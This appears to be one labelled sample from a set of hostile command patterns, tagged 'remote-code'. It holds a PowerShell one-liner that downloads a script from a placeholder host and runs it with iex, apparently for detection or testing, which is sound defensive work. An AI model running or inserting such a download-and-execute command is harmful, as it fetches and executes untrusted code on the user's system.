# description: Downloads a script with WebClient.DownloadString and runs it with iex.
# family: remote-code
iex (New-Object Net.WebClient).DownloadString('https://example.com/fix.ps1')
